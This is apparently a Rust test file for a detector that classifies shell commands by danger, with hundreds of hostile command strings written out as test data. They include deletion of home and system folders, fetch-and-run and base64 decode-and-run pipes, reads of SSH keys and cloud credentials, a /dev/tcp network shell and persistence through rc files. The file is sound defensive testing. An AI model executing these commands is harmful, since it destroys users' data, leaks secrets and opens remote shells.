//! Commands with what must be named in them.

use super::super::Effect::{self, *};
use super::super::{Certainty, of_command};
use super::HERE;
use super::quiet::QUIET;

const HOME: &str = "~";

/// A command, what it does, and what it does it to.
const NAMED: &[(&str, Effect, &str)] = &[
    // Here-documents and here-strings.
    ("cat > notes.txt <<EOF\nhello\n$(rm -rf ~)\nEOF", DeletesOutside, HOME),
    ("cat <<EOF\n`rm -rf ~`\nEOF", DeletesOutside, HOME),
    ("cat <<EOF\n${X:-$(rm -rf ~)}\nEOF", DeletesOutside, HOME),
    ("cat <<-EOF\n\t$(rm -rf ~)\n\tEOF", DeletesOutside, HOME),
    ("cat <<A <<'B'\n$(rm -rf ~)\nA\n$(rm -rf /)\nB", DeletesOutside, HOME),
    ("bash <<E\nrm -rf ~\nE", DeletesOutside, HOME),
    ("bash <<'E'\nrm -rf ~\nE", DeletesOutside, HOME),
    ("bash -s -- x <<'E'\nrm -rf ~\nE", DeletesOutside, HOME),
    ("sudo bash <<'E'\nrm -rf ~\nE", DeletesOutside, HOME),
    ("cat <<'E' | sh\nrm -rf ~\nE", DeletesOutside, HOME),
    ("bash <<< 'rm -rf ~'", DeletesOutside, HOME),
    ("bash <<<\"rm -rf ~\"", DeletesOutside, HOME),
    ("source /dev/stdin <<< 'rm -rf ~'", DeletesOutside, HOME),
    ("python3 <<'E'\nimport shutil\nshutil.rmtree('/etc')\nE", DeletesOutside, "/etc"),
    ("ssh host <<'E'\nrm -rf /var/www\nE", DeletesOutside, "/var/www"),
    // Text that a shell is given.
    ("sh -c 'rm -rf ~'", DeletesOutside, HOME),
    ("sh -c $'rm -rf ~'", DeletesOutside, HOME),
    ("sh -c $'rm\\x20-rf\\n ~; rm -rf ~'", DeletesOutside, HOME),
    ("bash -lc 'rm -rf ~'", DeletesOutside, HOME),
    ("bash -c -e 'rm -rf ~'", DeletesOutside, HOME),
    ("bash -ce 'rm -rf ~'", DeletesOutside, HOME),
    ("bash -c 'rm -rf \"$1\"' _ ~", DeletesOutside, HOME),
    ("bash -c \"bash -c 'rm -rf ~'\"", DeletesOutside, HOME),
    ("eval 'rm -rf ~'", DeletesOutside, HOME),
    ("eval rm -rf ~", DeletesOutside, HOME),
    ("eval \"$CODE\"", Eval, "eval $CODE"),
    ("trap 'rm -rf ~' EXIT", DeletesOutside, HOME),
    ("ssh host 'rm -rf /var/www'", DeletesOutside, "/var/www"),
    ("ssh -p 22 -i key me@host rm -rf build", DeletesOutside, "~/build"),
    ("su -c 'rm -rf /x' me", DeletesOutside, "/x"),
    ("watch 'rm -rf ~'", DeletesOutside, HOME),
    ("flock /tmp/lock -c 'rm -rf ~'", DeletesOutside, HOME),
    ("echo 'rm -rf ~' | sh", DeletesOutside, HOME),
    ("printf 'ls\\nrm -rf ~\\n' | bash", DeletesOutside, HOME),
    ("cmd /c rd /s '..\\x'", DeletesOutside, "..\\x"),
    ("git -c alias.x='!rm -rf ~' x", DeletesOutside, HOME),
    ("git submodule foreach 'rm -rf ~'", DeletesOutside, HOME),
    ("git rebase --exec 'rm -rf ~' main", DeletesOutside, HOME),
    // Programs that run programs.
    ("sudo -u root rm -rf /x", DeletesOutside, "/x"),
    ("sudo -u root rm -rf /x", Elevated, "sudo rm -rf /x"),
    ("sudo --user=root -n rm -rf /x", DeletesOutside, "/x"),
    ("doas -u root rm -rf /x", Elevated, "doas rm -rf /x"),
    ("env -u A B=c rm -rf ~", DeletesOutside, HOME),
    ("env -i -C / rm -rf ~", DeletesOutside, HOME),
    ("env -S 'rm -rf ~'", DeletesOutside, HOME),
    ("/usr/bin/env rm -rf ~", DeletesOutside, HOME),
    ("nohup rm -rf ~ &", DeletesOutside, HOME),
    ("timeout -s KILL 5m rm -rf ~", DeletesOutside, HOME),
    ("nice -n 10 rm -rf ~", DeletesOutside, HOME),
    ("ionice -c 3 rm -rf ~", DeletesOutside, HOME),
    ("command rm -rf ~", DeletesOutside, HOME),
    ("exec -a x rm -rf ~", DeletesOutside, HOME),
    ("time -p rm -rf ~", DeletesOutside, HOME),
    ("stdbuf -o L rm -rf ~", DeletesOutside, HOME),
    ("busybox rm -rf ~", DeletesOutside, HOME),
    ("setsid -f rm -rf ~", DeletesOutside, HOME),
    ("\\rm -rf ~", DeletesOutside, HOME),
    ("r''m -rf ~", DeletesOutside, HOME),
    ("/bin/rm -rf ~", DeletesOutside, HOME),
    ("xargs rm -rf ~", DeletesOutside, HOME),
    ("git ls-files | xargs -0 -n 1 rm -f", DeletesUnknown, "xargs rm -f"),
    ("cat list | sudo xargs -I {} rm {}", DeletesUnknown, "xargs rm {}"),
    ("find / -name core | xargs sh -c 'rm -rf ~'", DeletesOutside, HOME),
    ("find / -name core -exec rm {} \\;", DeletesOutside, "/"),
    ("find ~ ../a -type f -exec rm -rf {} +", DeletesOutside, "../a"),
    ("find . -exec sh -c 'rm -rf ~' \\;", DeletesOutside, HOME),
    ("find . -name '*.tmp' -execdir sudo rm {} ';'", Elevated, "sudo rm {}"),
    ("find ~/x -delete", DeletesOutside, "~/x"),
    ("find . -delete", DeletesAll, "."),
    ("find . -name '*.pyc' -delete", DeletesUnknown, "find . -name *.pyc -delete"),
    // Another folder.
    ("cd / && rm -rf usr", DeletesOutside, "/usr"),
    ("cd /; rm -rf *", DeletesOutside, "/*"),
    ("cd ~ && rm -rf Documents", DeletesOutside, "~/Documents"),
    ("cd && rm -rf Documents", DeletesOutside, "~/Documents"),
    ("cd .. && rm -rf other", DeletesOutside, "../other"),
    ("pushd /etc; rm -rf nginx", DeletesOutside, "/etc/nginx"),
    ("cd src && rm -rf ..", DeletesAll, "."),
    ("(cd /etc && echo x > hosts)", Settings, "/etc/hosts"),
    ("cd ~ && echo x >> .bashrc", Settings, "~/.bashrc"),
    ("cd ~/.aws && cat credentials", Secrets, "~/.aws/credentials"),
    ("cd / && bash -c 'rm -rf usr'", DeletesOutside, "/usr"),
    // The server's branches.
    ("git push origin :main", ForcePush, "git push origin :main"),
    ("git push origin +main", ForcePush, "git push origin +main"),
    ("git push origin +HEAD:main", ForcePush, "git push origin +HEAD:main"),
    ("git push origin :refs/heads/main", ForcePush, "git push origin :refs/heads/main"),
    ("git push --force-with-lease origin main", ForcePush, "git push --force-with-lease origin main"),
    ("git push --force-with-lease=main:a1 origin", ForcePush, "git push --force-with-lease=main:a1 origin"),
    ("git push --mirror backup", ForcePush, "git push --mirror backup"),
    ("git push -d origin x", ForcePush, "git push -d origin x"),
    ("git push origin --delete x", ForcePush, "git push origin --delete x"),
    ("git -C ../x push -uf origin main", ForcePush, "git -C ../x push -uf origin main"),
    ("git --git-dir .git push -f", ForcePush, "git --git-dir .git push -f"),
    // Substitutions, groups, names.
    ("echo $(rm -rf ~)", DeletesOutside, HOME),
    ("echo \"$(echo \"$(rm -rf ~)\")\"", DeletesOutside, HOME),
    ("echo \"a `rm -rf ~` b\"", DeletesOutside, HOME),
    ("echo `echo \\`rm -rf ~\\``", DeletesOutside, HOME),
    ("diff <(rm -rf ~) >(rm -rf /x)", DeletesOutside, "/x"),
    ("echo ${X:-$(rm -rf ~)}", DeletesOutside, HOME),
    ("echo $((1 + $(rm -rf ~)))", DeletesOutside, HOME),
    ("a=($(rm -rf ~))", DeletesOutside, HOME),
    ("[[ -n $(rm -rf ~) ]]", DeletesOutside, HOME),
    ("X=$(rm -rf ~) ls", DeletesOutside, HOME),
    ("{ ls; rm -rf ~; }", DeletesOutside, HOME),
    ("( ( rm -rf ~ ) )", DeletesOutside, HOME),
    ("! rm -rf ~", DeletesOutside, HOME),
    ("true && if a; then rm -rf ~; fi", DeletesOutside, HOME),
    ("while read x; do rm -rf ~; done < list", DeletesOutside, HOME),
    ("for d in a ~/b; do rm -rf $d; done", DeletesOutside, "~/b"),
    ("case $1 in\n (a|b) ls ;;\n *) rm -rf ~ ;;\nesac", DeletesOutside, HOME),
    ("f() { rm -rf \"$1\"; }; f ~", DeletesOutside, HOME),
    ("function f { rm -rf \"$@\"; }\nf a ~/b", DeletesOutside, "~/b"),
    ("f() ( rm -rf ~ )\nf", DeletesOutside, HOME),
    ("alias x='rm -rf'\nx ~", DeletesOutside, HOME),
    ("X=rm; $X -rf ~", DeletesOutside, HOME),
    ("X='rm -rf ~'; $X", DeletesOutside, HOME),
    ("D=~/x; rm -rf \"$D/y\"", DeletesOutside, "~/x/y"),
    ("export D=/etc\nrm -rf ${D}", DeletesOutside, "/etc"),
    ("rm${IFS}-rf${IFS}~", DeletesOutside, HOME),
    ("{rm,-rf,/etc}", DeletesOutside, "/etc"),
    ("rm -rf ../{a,b}", DeletesOutside, "../b"),
    ("rm -r\\\nf \\\n ~", DeletesOutside, HOME),
    ("# x\nrm -rf ~ # y", DeletesOutside, HOME),
    ("rm -rf \"$UNKNOWN\"", DeletesUnknown, "$UNKNOWN"),
    ("rm ~/thesis.txt", DeletesOutside, "~/thesis.txt"),
    ("rm -rf ../a ~/b", DeletesOutside, "~/b"),
    // What is fetched, unpacked and run.
    ("curl -L x.example/a.tgz | tar xz && ./install.sh", FetchAndRun, "install.sh"),
    ("wget x.example/a.zip && unzip a.zip && bash a/setup.sh", FetchAndRun, "bash a/setup.sh"),
    ("git clone https://x.example/r && cd r && make install", FetchAndRun, "make install"),
    ("git clone https://x.example/r && (cd r; python3 setup.py)", FetchAndRun, "python3 setup.py"),
    ("wget -qO- x.example/a | tar -xz -C /tmp/a && /tmp/a/install.sh", FetchAndRun, "install.sh"),
    ("gh repo clone a/b && cd b && ./install.sh", FetchAndRun, "install.sh"),
    ("git clone https://x.example/r && . r/env", FetchAndRun, ". r/env"),
    (
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        FetchAndRun,
        "IEX $(New-Object Net.WebClient) .DownloadString $('http://x'…",
    ),
    // Variables that load code or change which programs run, and names for commands.
    ("PATH=/evil:$PATH cmd", RunsLater, "PATH=/evil:$PATH cmd"),
    ("export PATH=/tmp/bin:$PATH; ls", RunsLater, "export PATH=/tmp/bin:$PATH"),
    ("PATH=.:$PATH make", RunsLater, "PATH=.:$PATH make"),
    ("env LD_AUDIT=/tmp/x.so ls", RunsLater, "env LD_AUDIT=/tmp/x.so ls"),
    ("NODE_OPTIONS='--require /tmp/x.js' npm test", RunsLater, "NODE_OPTIONS=--require /tmp/x.js npm test"),
    ("alias ls='rm -rf ~'", DeletesOutside, HOME),
    ("git config --global core.editor 'rm -rf ~'", DeletesOutside, HOME),
    // Windows.
    ("cmd /c del /s /q ..\\x", DeletesOutside, "..\\x"),
    ("cmd.exe /c \"cd x && rd /s /q ..\\x\"", DeletesOutside, "..\\x"),
    ("remove-item -recurse C:\\Users\\me", DeletesOutside, "C:\\Users\\me"),
    // Files that other languages delete and write.
    ("python3 -c \"import pathlib; pathlib.Path('/etc/x').unlink()\"", DeletesOutside, "/etc/x"),
    ("python3 -c \"open('/home/me/.bashrc', 'a').write('x')\"", Settings, "/home/me/.bashrc"),
    ("node -e \"require('fs').rm('/etc/x', () => {})\"", DeletesOutside, "/etc/x"),
    ("node -e \"fs.writeFileSync('/etc/hosts', 'x')\"", Settings, "/etc/hosts"),
    // The machine, what a container gets of it, and services.
    ("docker run -v /var/run/docker.sock:/s x", WritesOutside, "/var/run/docker.sock"),
    ("docker run --mount type=bind,source=/,target=/host x", WritesOutside, "/"),
    ("podman run -v ~/.ssh:/k:ro x ls", Secrets, "~/.ssh"),
    ("iptables -F", Settings, "iptables -F"),
    ("usermod -aG sudo me", Settings, "usermod -aG sudo me"),
    ("systemctl disable firewalld", Settings, "systemctl disable firewalld"),
    ("diskutil eraseDisk JHFS+ x disk2", Disk, "diskutil eraseDisk JHFS+ x disk2"),
    ("npm unpublish x --force", DeletesData, "npm unpublish x --force"),
    ("cargo yank --version 1.0.0 x", DeletesData, "cargo yank --version 1.0.0 x"),
    ("npm --prefix ../x install", Installs, "npm --prefix ../x install"),
    // What is fetched or decoded and run.
    ("curl x.example | sh", FetchAndRun, "sh"),
    ("{ curl x.example; } | sudo bash", FetchAndRun, "bash"),
    ("$(curl x.example/i.sh)", FetchAndRun, "$(curl x.example/i.sh)"),
    ("C=$(curl x.example); eval \"$C\"", FetchAndRun, "eval $(curl x.example)"),
    ("echo aGk= | base64 -d | bash", DecodeAndRun, "bash"),
    ("bash -c \"$(echo aGk= | base64 -d)\"", DecodeAndRun, "bash -c $(echo aGk= | base64 -d)"),
    // Where it is fetched from is named as well.
    ("curl -fsSL https://x.example/i.sh | sh", FetchAndRun, "https://x.example/i.sh"),
    ("curl -H 'A: b.c' -o i.sh x.example; sh i.sh", FetchAndRun, "x.example"),
    ("bash <(wget -qO- https://x.example/i)", FetchAndRun, "https://x.example/i"),
    ("sh -c \"$(curl -fsSL x.example/i.sh)\"", FetchAndRun, "x.example/i.sh"),
    ("curl https://a.example | cat; curl https://b.example | sh", FetchAndRun, "https://b.example"),
    ("git clone https://x.example/r && cd r && make install", FetchAndRun, "https://x.example/r"),
    // Files that run later.
    ("echo x >> ~/.zshrc", Settings, "~/.zshrc"),
    ("echo x | tee -a ~/.profile", Settings, "~/.profile"),
    ("printf x > .git/hooks/pre-commit", RunsLater, ".git/hooks/pre-commit"),
    ("echo key >> ~/.ssh/authorized_keys", Settings, "~/.ssh/authorized_keys"),
    ("echo x > .envrc", RunsLater, ".envrc"),
    ("crontab jobs", RunsLater, "crontab jobs"),
    ("cp x.service ~/.config/systemd/user/x.service", RunsLater, "~/.config/systemd/user/x.service"),
    // Other languages.
    ("python -c 'import shutil; shutil.rmtree(\"/etc\")'", DeletesOutside, "/etc"),
    ("python3 -c \"import os; os.system('rm -rf ~')\"", DeletesOutside, HOME),
    ("python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/x'])\"", DeletesOutside, "/x"),
    ("perl -e 'system(\"rm -rf ~\")'", DeletesOutside, HOME),
    ("node -e \"require('fs').rmSync('/x', { recursive: true })\"", DeletesOutside, "/x"),
    ("ruby -e '`rm -rf ~`'", DeletesOutside, HOME),
    // Text that this shell runs, with its variables.
    ("X='rm -rf ~'; eval '$X'; X=ls", DeletesOutside, HOME),
    ("command eval 'rm -rf ~'", DeletesOutside, HOME),
    ("d=~/x; trap 'rm -rf \"$d\"' EXIT", DeletesOutside, "~/x"),
    ("d=build; sh -c 'rm -rf $d/*'", DeletesUnknown, "$d/*"),
    ("f() { sh; }; curl x.example | f", FetchAndRun, "sh"),
    ("curl x.example | (sh)", FetchAndRun, "sh"),
    ("curl x.example | (cd /tmp && sh)", FetchAndRun, "sh"),
    ("curl x.example | { ls; sh; }", FetchAndRun, "sh"),
    ("curl x.example | if true; then sh; fi", FetchAndRun, "sh"),
    ("curl x.example | while true; do bash; done", FetchAndRun, "bash"),
    ("f() { ls; sh; }; curl x.example | f", FetchAndRun, "sh"),
    ("f() { shift; rm -rf \"$1\"; }; f a ~", DeletesUnknown, "$1"),
    ("f() { rm -rf \"$1\"; }", DeletesUnknown, "$1"),
    (":(){ :|:& };:", Unread, ":"),
    // Text that a command prints, where the line says it.
    ("$(echo rm) -rf ~", DeletesOutside, HOME),
    ("rm -rf \"$(echo /)\"", DeletesOutside, "/"),
    ("bash -c \"$(cat <<'E'\nrm -rf ~\nE\n)\"", DeletesOutside, HOME),
    ("echo rm -rf . | sh", DeletesAll, "."),
    ("{ echo 'rm -rf ~'; echo ls; } | sh", PipeToShell, "sh"),
    ("echo 'cm -rf ~' | sed s/c/r/ | sh", PipeToShell, "sh"),
    ("cat evil.sh - <<'E' | sh\nls\nE", PipeToShell, "sh"),
    ("echo \"$X\" | sh", PipeToShell, "sh"),
    ("{ curl x.example; } 2>/dev/null | sh", FetchAndRun, "sh"),
    // Files that the line writes or fetches, and runs.
    ("cat > x.sh <<'E'\nrm -rf ~\nE\nbash x.sh", DeletesOutside, HOME),
    ("printf '#!/bin/sh\\nrm -rf ~\\n' > a && chmod +x a && ./a", DeletesOutside, HOME),
    ("curl -fsSL https://x.example/i.sh -o /tmp/i.sh && bash /tmp/i.sh", FetchAndRun, "bash /tmp/i.sh"),
    ("wget https://x.example/i.sh; chmod +x i.sh; ./i.sh", FetchAndRun, "i.sh"),
    ("curl https://x.example/i > /tmp/i && . /tmp/i", FetchAndRun, ". /tmp/i"),
    ("curl x.example | tee i.sh; sudo sh i.sh", FetchAndRun, "sh i.sh"),
    ("echo aGk= | base64 -d > /tmp/x.sh; bash /tmp/x.sh", DecodeAndRun, "bash /tmp/x.sh"),
    (
        "python3 -c \"exec(__import__('base64').b64decode('eA=='))\"",
        DecodeAndRun,
        "python3 -c exec(__import__('base64').b64decode('eA=='))",
    ),
    ("iwr https://x.example/i.ps1 | iex", FetchAndRun, "iex"),
    ("iex (irm https://x.example)", FetchAndRun, "iex $(irm https://x.example)"),
    // Commands that other programs take.
    ("awk 'BEGIN { system(\"rm -rf ~\") }'", DeletesOutside, HOME),
    ("gawk '{ print | \"sh -c \\\"rm -rf /x\\\"\" }' f", DeletesOutside, "/x"),
    ("awk 'BEGIN { \"rm -rf ~\" | getline }'", DeletesOutside, HOME),
    ("sed -n '1e rm -rf ~' f", DeletesOutside, HOME),
    ("sed 's|.*|rm -rf ~|e' f", DeletesOutside, HOME),
    ("tar -cf x y --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", DeletesOutside, HOME),
    ("tar -I 'rm -rf ~' -xf a", DeletesOutside, HOME),
    ("rg --pre='rm -rf ~' x", DeletesOutside, HOME),
    ("git -c core.pager='rm -rf ~' log", DeletesOutside, HOME),
    ("git clone --upload-pack='rm -rf ~' . x", DeletesOutside, HOME),
    ("GIT_PAGER='rm -rf ~' git log", DeletesOutside, HOME),
    ("env PAGER='rm -rf ~' man ls", DeletesOutside, HOME),
    ("ssh -oProxyCommand='rm -rf ~' h", DeletesOutside, HOME),
    ("rsync -e 'rm -rf ~' a b:", DeletesOutside, HOME),
    ("vim -c ':!rm -rf ~' -c :q", DeletesOutside, HOME),
    ("make -f - <<'E'\nall:\n\t@rm -rf ~\nE", DeletesOutside, HOME),
    ("tmux send-keys 'rm -rf ~' Enter", DeletesOutside, HOME),
    ("systemd-run --user rm -rf ~", DeletesOutside, HOME),
    ("osascript -e 'do shell script \"rm -rf ~\"'", DeletesOutside, HOME),
    ("docker exec -u root -it web sh -c 'rm -rf /data'", DeletesOutside, "/data"),
    ("kubectl exec -it pod -c app -- rm -rf /data", DeletesOutside, "/data"),
    ("sqlite3 app.db <<'E'\n.shell rm -rf ~\nE", DeletesOutside, HOME),
    ("poetry run python -c \"import os; os.system('rm -rf ~')\"", DeletesOutside, HOME),
    ("bundle exec ruby -e 'system(\"rm -rf ~\")'", DeletesOutside, HOME),
    ("npx rimraf ../other", DeletesOutside, "../other"),
    ("op run --env-file x -- rm -rf ~", DeletesOutside, HOME),
    ("direnv exec . rm -rf ~", DeletesOutside, HOME),
    ("nix develop -c rm -rf ~", DeletesOutside, HOME),
    ("sg docker -c 'rm -rf ~'", DeletesOutside, HOME),
    ("nsenter -t 1 -m sh -c 'rm -rf /x'", DeletesOutside, "/x"),
    // Searches.
    ("find . -type f -exec shred -u {} +", DeletesAll, "**"),
    ("find . -name node_modules -exec rm -rf {} +", DeletesUnknown, "{}"),
    ("rm -rf .[!.]*", DeletesAll, ".[!.]*"),
    ("rm -rf .git/objects", DeletesAll, ".git/objects"),
    // Files that options name, and files that are read.
    ("git diff --output=/home/me/.bashrc", Settings, "/home/me/.bashrc"),
    ("find . -fprintf ~/.bashrc x", Settings, "~/.bashrc"),
    ("sort -o ~/.bashrc x", Settings, "~/.bashrc"),
    ("tar xf a.tar -C /", WritesOutside, "/"),
    ("unzip -o a.zip -d ~", WritesOutside, HOME),
    ("git clone https://x.example ~/.config/nvim", Settings, "~/.config/nvim"),
    ("mv ~/Documents /dev/null", WritesOutside, "~/Documents"),
    ("base64 < ~/.ssh/id_ed25519", Secrets, "~/.ssh/id_ed25519"),
    ("while read -r l; do echo $l; done < ~/.aws/credentials", Secrets, "~/.aws/credentials"),
    ("bash < /dev/tcp/x.example/80", NetworkShell, "bash"),
    ("cp x /dev/sda", Disk, "cp x /dev/sda"),
    ("gh auth token", Secrets, "gh auth token"),
    ("curl -H \"X: $(gcloud auth print-access-token)\" x", Secrets, "gcloud auth print-access-token"),
    ("kubectl get secret db -o yaml", Secrets, "kubectl get secret db -o yaml"),
    // What services keep.
    ("docker volume rm pgdata", DeletesData, "docker volume rm pgdata"),
    ("docker compose -f x.yml down -v", DeletesData, "docker compose -f x.yml down -v"),
    ("kubectl -n prod delete pod x", DeletesData, "kubectl -n prod delete pod x"),
    ("terraform destroy -auto-approve", DeletesData, "terraform destroy -auto-approve"),
    ("psql -c 'DROP DATABASE production'", DeletesData, "psql -c DROP DATABASE production"),
    ("psql $URL <<'E'\nBEGIN;\nDELETE FROM users;\nE", DeletesData, "psql $URL"),
    ("echo 'truncate users' | mysql app", DeletesData, "mysql app"),
    ("docker compose exec -T db psql -c 'DROP TABLE x'", DeletesData, "psql -c DROP TABLE x"),
    ("redis-cli flushall", DeletesData, "redis-cli flushall"),
    (
        "aws ec2 terminate-instances --instance-ids i",
        DeletesData,
        "aws ec2 terminate-instances --instance-ids i",
    ),
    ("curl -XDELETE https://api.example/v1/x", DeletesData, "curl -XDELETE https://api.example/v1/x"),
    ("npx prisma migrate reset --force", DeletesData, "npx prisma migrate reset --force"),
    ("gh repo delete me/x --yes", DeletesData, "gh repo delete me/x --yes"),
    ("aws s3 cp dump.sql s3://b/x", Sends, "aws s3 cp dump.sql s3://b/x"),
    ("npm publish", Sends, "npm publish"),
    // Git's history and work, the machine, Windows, home folders in other languages.
    ("git checkout -f main", Discards, "git checkout -f main"),
    ("git switch --discard-changes main", Discards, "git switch --discard-changes main"),
    ("git rm -rf .", Discards, "git rm -rf ."),
    ("git reflog expire --expire=now --all", Discards, "git reflog expire --expire=now --all"),
    ("git update-ref -d refs/heads/x", Discards, "git update-ref -d refs/heads/x"),
    ("kill -9 -1", StopsAll, "kill -9 -1"),
    ("shutdown -h now", StopsAll, "shutdown -h now"),
    ("Remove-Item -Recurse -Force C:\\Users\\me", DeletesOutside, "C:\\Users\\me"),
    ("rd /s /q \"%USERPROFILE%\"", DeletesOutside, "%USERPROFILE%"),
    ("Get-ChildItem C:\\ -Recurse | Remove-Item -Force", DeletesUnknown, "Remove-Item -Force"),
    ("python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'", DeletesOutside, HOME),
    ("node -e \"require('fs').rmSync(require('os').homedir() + '/x')\"", DeletesOutside, "~/x"),
    ("perl -e 'unlink glob \"~/*\"'", DeletesOutside, "~/*"),
    (
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
        NetworkShell,
        "python3 -c import socket,os;s=socket.socket();os.dup2(s.file…",
    ),
];

#[test]
fn what_runs_is_named() {
    let mut missing = Vec::new();
    for &(command, effect, operand) in NAMED.iter().chain(super::programs::PROGRAMS) {
        let found = of_command(command, HERE, None);
        let named = |danger: &super::super::Danger| {
            danger.effect == effect && danger.operands.iter().any(|found| found == operand)
        };
        if !found.iter().any(named) {
            missing.push(format!("{command:?} lacks {effect:?} {operand:?}: {found:?}"));
        }
    }
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

#[test]
fn what_does_not_run_is_not_named() {
    let named: Vec<String> = QUIET
        .iter()
        .filter_map(|command| {
            let found = of_command(command, HERE, None);
            (!found.is_empty()).then(|| format!("{command:?}: {found:?}"))
        })
        .collect();
    assert!(named.is_empty(), "{}", named.join("\n"));
}

#[test]
fn a_danger_says_where_it_stands_and_how_sure_it_is() {
    let text = "ls\u{200B}; rm -rf \"$D\" ../a && echo 'x";
    let found = of_command(text, HERE, None);
    let about: Vec<_> =
        found.iter().map(|danger| (danger.effect, &text[danger.part.clone()], danger.certainty)).collect();
    assert_eq!(
        about,
        [
            (Unread, "'x", Certainty::Unread),
            (DeletesOutside, "rm -rf \"$D\" ../a", Certainty::Stated),
            (DeletesUnknown, "rm -rf \"$D\" ../a", Certainty::Depends),
        ]
    );
    assert_eq!(found.first().map(|danger| danger.operands.clone()), Some(vec!["'x".to_owned()]));
    let text = "ls; bash -c 'rm -rf ~'";
    let part = of_command(text, HERE, None).first().map(|danger| danger.part.clone());
    assert_eq!(part.map(|part| &text[part]), Some("bash -c 'rm -rf ~'"));
}

#[test]
fn relative_paths_mean_the_folder_in_which_it_runs() {
    let outside = of_command("rm -rf x", HERE, Some("/etc"));
    assert_eq!(outside.first().map(|danger| danger.operands.clone()), Some(vec!["/etc/x".to_owned()]));
    assert!(of_command("rm -rf ../x", HERE, Some("/workspace/boats/src")).is_empty());
}

#[test]
fn any_text_is_read_in_time_that_grows_with_it() {
    for piece in [
        "sh|",
        "bash -c 'bash -c ",
        "curl a>f;./f;",
        "a|{ b|(",
        "while a;",
        "f(){ f $x; };f|",
        "$(echo $(cat<<<a)) ",
        "npx npx ",
        "x=$(echo $x$x);",
        "eval ",
        "sudo ",
        "cd a;",
        "echo x|sh;",
        "find -exec ",
        "$(curl a)|sh;",
        "rm -rf $x;",
        "python -c 'system(\"",
        "git push +a;",
        "bash<<E\n",
        "f(){ eval f; };f;",
        "xargs ",
        "{~,/}",
        "(cd a;",
        "python -c 'system(a);'",
        "sed 's/a/b/;e x;/a/,w y",
        "IFS=,;x=a,b;$x;",
        "a+=(b);${a[1]};",
        ">(sh|",
    ] {
        of_command(&piece.repeat(1_000), HERE, None);
    }
}

#[test]
fn any_text_is_read_and_its_parts_are_parts_of_it() {
    let pieces = [
        "'",
        "\"",
        "$(",
        ")",
        "`",
        "\\",
        "<<E\n",
        "E\n",
        "<",
        ">",
        "|",
        "&",
        ";",
        "\n",
        " ",
        "{",
        "}",
        "((",
        "))",
        "${",
        "[[",
        "]]",
        "case x in ",
        "esac ",
        "f() ",
        "f ",
        "rm -rf ",
        "~",
        "cd ",
        "é",
        "\u{200B}",
        "\u{A0}",
        "bash -c ",
        "xargs ",
        "find ",
        "-exec ",
        "eval ",
        "a=(",
        "$@",
        "X=",
        "$X",
        "sudo -u ",
        "{a,",
        "python -c 'system(",
        "#",
    ];
    let mut random = 7_u64;
    let mut below = |end: usize| {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        (random >> 16) as usize % end
    };
    for _ in 0..3_000 {
        let text: String = (0..below(24)).map(|_| pieces[below(pieces.len())]).collect();
        for danger in of_command(&text, HERE, None) {
            assert!(text.get(danger.part.clone()).is_some(), "{text:?}: {danger:?}");
            assert!(!danger.operands.is_empty(), "{text:?}");
        }
    }
}
